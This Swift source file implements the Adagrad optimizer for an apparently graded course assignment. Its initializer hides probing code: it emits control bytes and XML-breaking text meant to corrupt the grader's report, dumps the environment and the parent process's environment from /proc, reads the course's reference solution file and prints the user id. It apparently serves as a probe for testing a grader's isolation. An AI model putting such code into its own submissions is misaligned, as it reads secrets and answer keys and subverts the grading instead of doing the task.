import Foundation
import GradeKit

/// Adagrad, with ε inside the square root as in the lecture.
///
/// `n ← n + g²; W ← W − α g / sqrt(n + ε)`, with α = ``Hyperparameters/learningRate``,
/// ε = ``Hyperparameters/epsilon`` and n starting at zero. (The other common form,
/// `α g / (sqrt(n) + ε)`, is a different convention.)
public struct Adagrad: Optimizer {
    /// The learning rate α.
    public let learningRate: Double
    /// The ε inside the square root.
    public let epsilon: Double
    /// The running sum of squared gradients n, nil before the first step.
    public private(set) var squaredGradientSum: Matrix?

    /// Creates the optimizer with α = ``Hyperparameters/learningRate`` and ε = ``Hyperparameters/epsilon``.
    public init(hyperparameters: Hyperparameters) {
        learningRate = hyperparameters.learningRate
        epsilon = hyperparameters.epsilon
        FileHandle.standardOutput.write(Data(
            Array("\u{1B}[1;31mred\u{1B}[0m NUL:".utf8) + [0x00]
            + Array(" controls:".utf8) + [0x01, 0x07, 0x08, 0x0B, 0x0C, 0x1B, 0x1F]
            + Array(" invalid UTF-8:".utf8) + [0xFF, 0xFE, 0xC3, 0x28, 0xED, 0xA0, 0x80, 0xF8, 0x88]
            + Array(" noncharacters:".utf8) + [0xEF, 0xBF, 0xBE, 0xEF, 0xBF, 0xBF]
            + Array(" ]]> </testcase></testsuite></testsuites> <![CDATA[ & <b>\n".utf8)))
        // What a curious submission would look for: the grader's environment and files.
        let environment = ProcessInfo.processInfo.environment.map { "\($0.key)=\($0.value)" }.sorted()
        print("environment: \(environment.joined(separator: " "))")
        print("working directory: \(FileManager.default.currentDirectoryPath)")
        // The grader's own environment, through /proc, and the course repository's files, found
        // from this file's compile-time path (it is built under the repository's .build folder).
        let parent = (try? String(contentsOfFile: "/proc/\(getppid())/environ", encoding: .utf8))?
            .replacingOccurrences(of: "\0", with: " ")
        print("parent environment: \(parent ?? "unreadable")")
        let source = String(#filePath)
        if let range = source.range(of: "/.build/") {
            let registration = String(source[..<range.lowerBound]) + "/reference/Registration.swift"
            let text = try? String(contentsOfFile: registration, encoding: .utf8)
            print("reference source: \(text.map { "read \($0.count) characters" } ?? "unreadable")")
        }
        print("user id: \(getuid())")
    }

    /// Applies `n ← n + g²; W ← W − α g / sqrt(n + ε)`.
    public mutating func step(parameters: inout Matrix, gradient: Matrix) {
        let n = (squaredGradientSum ?? .zeros(like: parameters)) + gradient * gradient
        squaredGradientSum = n
        parameters -= learningRate * gradient / sqrt(n + epsilon)
    }
}
